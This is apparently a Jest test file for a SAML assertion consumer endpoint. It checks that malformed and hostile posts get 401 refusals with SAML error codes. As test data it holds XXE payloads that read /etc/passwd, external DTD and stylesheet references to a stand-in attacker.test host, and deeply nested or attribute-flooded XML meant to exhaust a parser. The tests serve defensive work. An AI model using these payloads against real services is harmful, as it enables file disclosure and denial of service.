import { deflateRawSync } from 'node:zlib';
import request from 'supertest';
import { SAML_REFUSALS } from '../../../src/auth/saml/saml.errors';
import { loadOpenApi } from '../../../src/platform/http/openapi';
import { startTestApp, type TestApp } from '../../support/app';
import { acsClient, encode, sessionCookie, TEST_ATTR, writeTestIdps, type TestIdp, type TestIdps } from '../../support/saml-idp';

// Who may call: anyone may post anything to the ACS. Whatever arrives (no SAMLResponse, the
// wrong media type, a body over the limit, XML built to exhaust a parser: deep nesting, entity
// expansion, DOCTYPEs, huge attribute counts), the answer is the one the README promises for
// every refused sign-in: 401 problem+json (an HTML page for a browser) with a SAML.* code,
// audited as auth.login / denied. Never a 400 from the generic validator, never a 500, never a hang.

const BASE = 'http://cdop.test';

let t: TestApp;
let idps: TestIdps;
let nhs: TestIdp;

beforeAll(async () => {
  idps = writeTestIdps(BASE);
  ({ nhs } = idps);
  t = await startTestApp({ SAML_IDPS_FILE: idps.file, PUBLIC_BASE_URL: BASE, DEV_IDP: 'false' }, { realAuth: true });
});
afterAll(async () => {
  await t.close();
  idps.cleanup();
});
beforeEach(() => t.reset());

const { startLogin, postAcs, expectRefused, lastLoginAudit, count } = acsClient(() => t);
const member = { [TEST_ATTR.roles]: ['CDOP-MEMBER'] };
const acs = () => request(t.app).post('/auth/saml/nhs/acs');

/** A genuine response with `fragment` as the value of an extra attribute (unsigned: the XML limits come first). */
async function withPayload(fragment: string): Promise<string> {
  const xml = nhs.response(
    { inResponseTo: await startLogin(), attributes: { ...member, 'urn:test:payload': ['PAYLOAD'] } },
    { signResponse: false },
  );
  return xml.replace('>PAYLOAD<', `>${fragment}<`);
}

describe('the form the IdP posts', () => {
  it('when SAMLResponse is missing, then 401 SAML.MALFORMED (not 400 VALIDATION.FAILED), audited once', async () => {
    await expectRefused(await acs().type('form').send({ RelayState: '/v1/me' }), 'SAML.MALFORMED');
    expect((await t.ds.query(`SELECT count(*)::int AS n FROM audit_events WHERE action = 'auth.login'`))[0].n).toBe(1);
  });

  it('when the body is empty, then 401 SAML.MALFORMED', async () => {
    await expectRefused(await acs().type('form').send(''), 'SAML.MALFORMED');
  });

  it('when SAMLResponse is longer than 256 KiB, then 401 SAML.LIMIT_EXCEEDED (not 400)', async () => {
    await expectRefused(
      await acs()
        .type('form')
        .send({ SAMLResponse: 'A'.repeat(300 * 1024) }),
      'SAML.LIMIT_EXCEEDED',
    );
  });

  it('when the body is larger than the body limit (1 MB), then 401 SAML.LIMIT_EXCEEDED (not 413)', async () => {
    await expectRefused(
      await acs()
        .type('form')
        .send({ SAMLResponse: 'A'.repeat(1100 * 1024) }),
      'SAML.LIMIT_EXCEEDED',
    );
  });

  it('when the form has more fields than the parser allows, then 401 SAML.LIMIT_EXCEEDED (not a 500)', async () => {
    const fields = Array.from({ length: 60 }, (_, i) => `f${i}=x`).join('&');
    await expectRefused(await acs().type('form').send(`SAMLResponse=AAAA&${fields}`), 'SAML.LIMIT_EXCEEDED');
  });

  it('when SAMLResponse is sent twice, then 401 SAML.MALFORMED', async () => {
    await expectRefused(await acs().type('form').send('SAMLResponse=AAAA&SAMLResponse=BBBB'), 'SAML.MALFORMED');
  });

  it('when a form field carries NUL, then 401 SAML.MALFORMED (not 400 REQUEST.INVALID_TEXT)', async () => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(
      await acs()
        .type('form')
        .send(`SAMLResponse=${encodeURIComponent(encode(xml))}&RelayState=%2Fv1%00`),
      'SAML.MALFORMED',
    );
  });

  it('when RelayState is longer than 1024 characters, then 401 SAML.MALFORMED', async () => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(await postAcs(xml, { relayState: `/${'a'.repeat(1100)}` }), 'SAML.MALFORMED');
  });

  it('when the ACS URL carries a query string, then 401 SAML.MALFORMED (not 400)', async () => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(
      await request(t.app)
        .post('/auth/saml/nhs/acs?x=1')
        .type('form')
        .send({ SAMLResponse: encode(xml) }),
      'SAML.MALFORMED',
    );
  });

  it.each([
    ['JSON', 'application/json', JSON.stringify({ SAMLResponse: 'AAAA' })],
    ['malformed JSON', 'application/json', '{"SAMLResponse": '],
    ['raw XML', 'text/xml', '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>'],
    ['plain text', 'text/plain', 'SAMLResponse=AAAA'],
    ['a form in another charset', 'application/x-www-form-urlencoded; charset=iso-8859-1', 'SAMLResponse=AAAA'],
    ['multipart', 'multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="SAMLResponse"\r\n\r\nAAAA\r\n--x--\r\n'],
  ])('when the body is %s, then 401 SAML.MALFORMED (not 415 "send JSON")', async (_what, type, body) => {
    await expectRefused(await acs().set('Content-Type', type).send(body), 'SAML.MALFORMED');
  });

  it('when the body is JSON nested 100,000 deep, then 401 with a SAML code (never a 500)', async () => {
    const res = await acs()
      .set('Content-Type', 'application/json')
      .send(`${'['.repeat(100_000)}${']'.repeat(100_000)}`);
    expect(res.status).toBe(401);
    expect(res.body.code).toMatch(/^SAML\./);
  });

  it('when a browser posts nothing, then it gets the 401 HTML page naming SAML.MALFORMED', async () => {
    const res = await acs().set('Accept', 'text/html').type('form').send({});
    expect(res.status).toBe(401);
    expect(res.headers['content-type']).toMatch(/^text\/html/);
    expect(res.text).toContain('SAML.MALFORMED');
    expect(await lastLoginAudit()).toMatchObject({ outcome: 'denied', reason: 'SAML.MALFORMED' });
  });

  it('when the IdP is unknown and the form is empty, then 404 SAML.UNKNOWN_IDP, audited', async () => {
    const res = await request(t.app).post('/auth/saml/nowhere/acs').type('form').send({});
    expect({ status: res.status, code: res.body.code }).toEqual({ status: 404, code: 'SAML.UNKNOWN_IDP' });
    expect(await lastLoginAudit()).toMatchObject({ outcome: 'denied', reason: 'SAML.UNKNOWN_IDP', idp_id: null });
  });
});

describe('XML built to exhaust a parser', () => {
  it('when elements are nested 25,000 deep, then 401 SAML.LIMIT_EXCEEDED (not a 500 from a stack overflow)', async () => {
    await expectRefused(await postAcs(await withPayload(`${'<x>'.repeat(25_000)}${'</x>'.repeat(25_000)}`)), 'SAML.LIMIT_EXCEEDED');
  });

  it('when elements are nested just past the depth limit (40), then 401 SAML.LIMIT_EXCEEDED', async () => {
    await expectRefused(await postAcs(await withPayload(`${'<x>'.repeat(40)}${'</x>'.repeat(40)}`)), 'SAML.LIMIT_EXCEEDED');
  });

  it('when the response holds 6,000 elements, then 401 SAML.LIMIT_EXCEEDED', async () => {
    await expectRefused(await postAcs(await withPayload('<x/>'.repeat(6_000))), 'SAML.LIMIT_EXCEEDED');
  });

  it('when one element has 12,000 attributes, then 401 SAML.LIMIT_EXCEEDED', async () => {
    const attrs = Array.from({ length: 12_000 }, (_, i) => `a${i}="1"`).join(' ');
    await expectRefused(await postAcs(await withPayload(`<x ${attrs}/>`)), 'SAML.LIMIT_EXCEEDED');
  });

  it('when one element declares 2,000 namespaces, then 401 SAML.LIMIT_EXCEEDED', async () => {
    const attrs = Array.from({ length: 2_000 }, (_, i) => `xmlns:p${i}="urn:p${i}"`).join(' ');
    await expectRefused(await postAcs(await withPayload(`<x ${attrs}/>`)), 'SAML.LIMIT_EXCEEDED');
  });

  it('when an element name is 50,000 characters long, then 401 SAML.LIMIT_EXCEEDED', async () => {
    const name = 'n'.repeat(50_000);
    await expectRefused(await postAcs(await withPayload(`<${name}/>`)), 'SAML.LIMIT_EXCEEDED');
  });

  it.each([
    ['an external entity (XXE)', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]>'],
    ['a lower-case doctype', '<!doctype r>'],
    ['an external DTD', '<!DOCTYPE samlp:Response SYSTEM "http://attacker.test/saml.dtd">'],
  ])('when the response starts with %s, then 401 SAML.DOCTYPE_FORBIDDEN', async (_what, doctype) => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(await postAcs(`<?xml version="1.0"?>${doctype}${xml}`), 'SAML.DOCTYPE_FORBIDDEN');
  });

  it('when the DOCTYPE hides behind a UTF-16 encoding, then 401 SAML.MALFORMED', async () => {
    await startLogin();
    const xml = `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "a">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>`;
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]).toString('base64');
    await expectRefused(await acs().type('form').send({ SAMLResponse: utf16 }), 'SAML.MALFORMED');
  });

  it('when the response uses an entity it never declared, then 401 SAML.MALFORMED', async () => {
    await expectRefused(await postAcs(await withPayload('&xxe;')), 'SAML.MALFORMED');
  });

  it('when the response carries a processing instruction (xml-stylesheet), then 401 SAML.COMMENT_FORBIDDEN', async () => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(
      await postAcs(`<?xml-stylesheet type="text/xsl" href="http://attacker.test/x.xsl"?>${xml}`),
      'SAML.COMMENT_FORBIDDEN',
    );
  });

  it.each([
    ['XML 1.1', '<?xml version="1.1"?>'],
    ['an encoding other than UTF-8', '<?xml version="1.0" encoding="ISO-8859-1"?>'],
  ])('when the XML declaration says %s, then 401 SAML.MALFORMED', async (_what, declaration) => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(await postAcs(`${declaration}${xml}`), 'SAML.MALFORMED');
  });

  it('when the XML declaration says version 1.0 and UTF-8, then it is accepted', async () => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    const res = await postAcs(`<?xml version="1.0" encoding="UTF-8"?>\n${xml}`);
    expect(res.status).toBe(303);
    expect(sessionCookie(res.headers['set-cookie'])).toBeDefined();
  });

  it('when the response is deflated (the redirect binding encoding, not POST), then 401 SAML.MALFORMED', async () => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(
      await acs()
        .type('form')
        .send({ SAMLResponse: deflateRawSync(Buffer.from(xml)).toString('base64') }),
      'SAML.MALFORMED',
    );
  });

  it('when there is text after the root element, then 401 SAML.MALFORMED', async () => {
    const xml = nhs.response({ inResponseTo: await startLogin(), attributes: member });
    await expectRefused(await postAcs(`${xml}<second/>`), 'SAML.MALFORMED');
  });

  it('when the hostile responses are refused, then the request each answered is still open (refused before the protocol looks)', async () => {
    await postAcs(await withPayload(`${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}`));
    expect(await count('saml_requests')).toBe(1);
  });
});

describe('the documented refusals', () => {
  it('when the spec is read, then the ACS 401 lists exactly the SAML.* codes the service can answer', async () => {
    const { dereferenced } = await loadOpenApi(`${__dirname}/../../../openapi/openapi.yaml`);
    const post = (dereferenced.paths['/auth/saml/{idpId}/acs'] as { post: { responses: Record<string, unknown> } }).post;
    const schema = (
      post.responses['401'] as { content: Record<string, { schema: { allOf: { properties?: { code?: { enum?: string[] } } }[] } }> }
    ).content['application/problem+json']!.schema;
    const documented = schema.allOf.flatMap((s) => s.properties?.code?.enum ?? []);
    expect([...documented].sort()).toEqual(Object.keys(SAML_REFUSALS).sort());
    expect(Object.keys(post.responses).sort()).toEqual(['303', '401', '404', '429', '500', '503']);
  });
});
